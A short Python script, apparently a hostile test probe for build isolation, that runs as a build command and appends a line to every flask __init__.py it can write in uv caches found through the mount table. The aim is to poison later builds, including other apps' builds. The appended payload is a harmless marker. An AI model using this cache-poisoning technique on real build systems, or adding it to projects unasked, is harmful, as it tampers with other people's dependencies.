"""Run as the build command: modify flask in every uv cache this build can write, so that the next build
installing flask from that cache (another app's, if caches were shared) gets this code."""

import os
from pathlib import Path

mounts = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
poisoned = 0
for mount in mounts:
    for root, dirs, files in os.walk(mount):
        if root.endswith("/flask") and "__init__.py" in files:
            try:
                with open(os.path.join(root, "__init__.py"), "a") as f:
                    f.write("\nPOISONED = True\n")
                poisoned += 1
            except OSError:
                pass
print(f"HOSTILE poisoned {poisoned} copies of flask")
